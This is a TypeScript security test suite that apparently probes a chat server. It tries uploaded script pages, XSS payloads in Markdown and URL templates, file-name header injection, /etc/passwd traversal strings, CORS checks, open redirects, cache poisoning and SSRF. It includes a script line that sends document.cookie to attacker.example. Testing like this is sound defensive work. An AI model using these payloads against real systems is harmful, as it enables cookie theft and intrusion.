import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { evidence, type Attack } from '../attack.ts';
import type { Answer } from '../client.ts';
import { ADMINISTRATOR, OWNER } from '../stage.ts';
import { channelOf, sayIn, textOf, upload } from './helpers.ts';

const SCRIPT = '<script>fetch("//attacker.example/"+document.cookie)</script>';

/** Attempts to run scripts in the browsers of others, or to make the node fetch addresses. */
export const contentAttacks: readonly Attack[] = [
  uploadedPage('an HTML page', { name: 'page.html', type: 'text/html', content: SCRIPT }),
  uploadedPage('an SVG with a script', {
    name: 'picture.svg',
    type: 'image/svg+xml',
    content: `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`,
  }),
  uploadedPage('a GIF that is also HTML', {
    name: 'both.gif',
    type: 'text/html',
    content: `GIF89a/*${SCRIPT}*/=1;`,
  }),
  uploadedPage('an HTML page named as a text', { name: 'page.txt', type: 'text/plain', content: SCRIPT }),
  uploadedPage('an XHTML page', {
    name: 'page.xhtml',
    type: 'application/xhtml+xml',
    content: `<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
  }),
  {
    name: 'a member hides headers in the name of a file',
    success: 'a header of the attacker appears in the response',
    attempt: async ({ send, account }) => {
      const member = await account();
      for (const name of [
        'a%0d%0aX-Injected: yes.txt',
        'a\\r\\nX-Injected: yes.txt',
        'a\u2028X-Injected: yes.txt',
        '../../../etc/passwd',
        'a";filename=b.html',
      ]) {
        const { json, status } = await upload(send, member, { name, type: 'text/plain', content: 'x' });
        if (status !== 200) continue;
        const { headers } = await send(textOf(json, 'url'), { as: member });
        if (headers['x-injected'] !== undefined) return name;
        if (/filename=b\.html/.test(String(headers['content-disposition']))) return name;
      }
      return undefined;
    },
  },
  {
    name: 'a stranger walks out of the folder of files',
    success: 'a file outside is returned',
    attempt: async ({ send, account }) => {
      const member = await account();
      for (const path of [
        '..%2f..%2f..%2fetc%2fpasswd',
        '../../../../etc/passwd',
        '1/..%5c..%5cetc%5cpasswd',
        '1/%2e%2e/%2e%2e/etc/passwd',
        '1/%252e%252e/etc/passwd',
        '1/a/..;/..;/etc/passwd',
        '1/\0/etc/passwd'.replace('\0', '%00'),
      ])
        for (const prefix of [
          '/user_uploads/',
          '/user_uploads/download/',
          '/user_uploads/thumbnail/',
          '/user_avatars/',
          '/static/',
        ]) {
          const { text, status } = await send(prefix + path, { as: member });
          if (text.includes('root:') || status >= 500) return `${prefix}${path}: ${status}`;
        }
      return undefined;
    },
  },
  {
    name: 'a member writes scripts in Markdown',
    success: 'the HTML contains an active element or address',
    attempt: async ({ send, account }) => {
      const member = await account();
      const texts = [
        SCRIPT,
        '[x](javascript:alert(1))',
        '[x](java\nscript:alert(1))',
        '[x](&#106;avascript:alert(1))',
        '[x](data:text/html;base64,PHNjcmlwdD4=)',
        '![x](x" onerror="alert(1))',
        '<img src=x onerror=alert(1)>',
        '$$\\href{javascript:alert(1)}{x}$$',
        '```"><script>\nx\n```',
        '<time:"><script>alert(1)</script>>',
        'http://x.example/"onmouseover="alert(1)',
        '@**"><script>**',
        '#**"><script>**',
      ];
      for (const content of texts) {
        const { json } = await send('/api/v1/messages/render', { as: member, form: { content } });
        const html = String(json['rendered']);
        if (/<script|<[^>]*\son\w+\s*=|<[^>]*(?:href|src)\s*=\s*["']?\s*(?:javascript|data:text)/i.test(html))
          return `${content} became ${html}`;
      }
      return undefined;
    },
  },
  templateAttack('a linkifier', '/api/v1/realm/filters', (template) => ({
    pattern: '#(?P<id>[0-9]+)',
    url_template: template,
  })),
  templateAttack('a playground', '/api/v1/realm/playgrounds', (template) => ({
    name: 'run it',
    pygments_language: 'Python',
    url_template: template,
  })),
  {
    name: 'a foreign page reads the API with the cookie of its visitor',
    success: 'the browser is told to share the answer',
    attempt: async ({ send }) => {
      for (const path of ['/json/users/me', '/json/session', '/api/v1/users/me']) {
        const { headers } = await send(path, {
          headers: { origin: 'https://attacker.example', cookie: '__Host-parley=x' },
        });
        if (headers['access-control-allow-credentials'] !== undefined) return path;
      }
      return undefined;
    },
  },
  {
    name: 'a foreign page frames the pages of the server',
    success: 'a page may be framed or run foreign scripts',
    attempt: async ({ send }) => {
      for (const path of ['/', '/login/', '/reset-password', '/register']) {
        const { headers, status } = await send(path);
        if (!String(headers['content-type']).startsWith('text/html') || status >= 500) continue;
        const policy = String(headers['content-security-policy']);
        if (!/frame-ancestors 'none'|frame-ancestors 'self'/.test(policy)) return `${path} may be framed`;
        if (/script-src[^;]*('unsafe-inline'|'unsafe-eval'|\*)/.test(policy)) return `${path}: ${policy}`;
      }
      return undefined;
    },
  },
  {
    name: 'a stranger redirects the visitor of a log-in',
    success: 'the answer leads to another site',
    attempt: async ({ send }) => {
      for (const target of [
        '//attacker.example',
        'https://attacker.example/',
        '/\\attacker.example',
        '/%0d%0aLocation:https://attacker.example',
        'https:attacker.example',
      ])
        for (const path of ['/login/', '/accounts/login/sign-on', '/', '/avatar/1']) {
          const { headers, text } = await send(
            `${path}?next=${encodeURIComponent(target)}&redirect=${encodeURIComponent(target)}`,
          );
          if (/^(?:https?:)?\/?[/\\]+attacker/.test(String(headers['location']))) return path;
          if (text.includes(`href="${target}`)) return `${path} links to ${target}`;
        }
      return undefined;
    },
  },
  {
    name: 'a stranger poisons cached avatars by headers',
    success: 'a public response repeats a header of the request',
    attempt: async ({ send, account }) => {
      const { id } = await account();
      const headers = {
        'x-forwarded-host': 'attacker.example',
        'x-original-url': '/attacker',
        'x-forwarded-proto': 'gopher',
        'x-rewrite-url': '/attacker',
      };
      for (const path of [
        `/avatar/${id}`,
        `/avatar/${id}/medium`,
        '/static/emoji/emoji_api.json',
        '/api/v1/server_settings',
      ]) {
        const answer = await send(path, { headers });
        if (/attacker|gopher/.test(JSON.stringify(answer.headers) + answer.text)) return path;
      }
      return undefined;
    },
  },
  {
    name: 'users make the node fetch an address of its own network',
    success: 'a request arrives there',
    attempt: async ({ send, account }) => {
      let visits = 0;
      const inner = createServer((_request, response) => {
        visits += 1;
        response.end();
      });
      inner.listen(0, '127.0.0.1');
      await once(inner, 'listening');
      const address = `http://127.0.0.1:${(inner.address() as AddressInfo).port}`;
      try {
        const [owner, member] = [await account(OWNER), await account()];
        const channel = await channelOf(send, member, `previews ${member.id}`);
        await sayIn(send, member, channel, `${address}/a.png ![x](${address}/b.png) <${address}/c.svg>`);
        await send('/api/v1/bots', {
          as: member,
          form: {
            full_name: 'Outgoing',
            short_name: `out-${member.id}`,
            bot_type: '3',
            payload_url: JSON.stringify(address),
            interface_type: '1',
            service_name: `s${member.id}`,
          },
        });
        await sayIn(send, member, channel, '@**Outgoing** hello');
        await send('/api/v1/realm', {
          method: 'PATCH',
          as: owner,
          form: { jitsi_server_url: JSON.stringify({ new: address }) },
        });
        await send('/api/v1/calls/conference/create', { method: 'POST', as: owner });
        await pause(1_000);
      } finally {
        inner.close();
      }
      return evidence(visits > 0, `${visits} requests`);
    },
  },
];

type File = Parameters<typeof upload>[2];

function uploadedPage(what: string, file: File): Attack {
  return {
    name: `a member uploads ${what} and opens it`,
    success: 'a browser would run it in the origin of the organization',
    attempt: async ({ send, account }) => {
      const member = await account();
      const { json, status } = await upload(send, member, file);
      if (status !== 200) return undefined;
      const url = textOf(json, 'url');
      const shown = await send(url, { as: member });
      const downloaded = await send(url.replace('/user_uploads/', '/user_uploads/download/'), { as: member });
      return runs(shown) ?? runs(downloaded);
    },
  };
}

function runs({ headers, status }: Answer): string | undefined {
  if (status !== 200) return undefined;
  const isAttached = String(headers['content-disposition']).startsWith('attachment');
  const isInert = /^(?:image\/(?!svg)|text\/plain|audio\/|video\/)/.test(String(headers['content-type']));
  const isBoxed = /sandbox/.test(String(headers['content-security-policy']));
  if (headers['x-content-type-options'] !== 'nosniff') return 'the type may be sniffed';
  return evidence(!isAttached && !(isInert && isBoxed), `shown as ${String(headers['content-type'])}`);
}

function templateAttack(
  what: string,
  path: string,
  form: (template: string) => Record<string, string>,
): Attack {
  return {
    name: `an administrator puts a script into ${what}`,
    success: 'the template is accepted',
    attempt: async ({ send, account }) => {
      const admin = await account(ADMINISTRATOR);
      for (const scheme of [
        'javascript:alert({id})',
        'JaVaScRiPt:alert({id})',
        ' javascript:alert({id})',
        'data:text/html,{id}',
        'vbscript:{id}',
      ]) {
        const template = what === 'a playground' ? scheme.replace('{id}', '{code}') : scheme;
        const { status } = await send(path, { as: admin, form: form(template) });
        if (status === 200) return template;
      }
      return undefined;
    },
  };
}
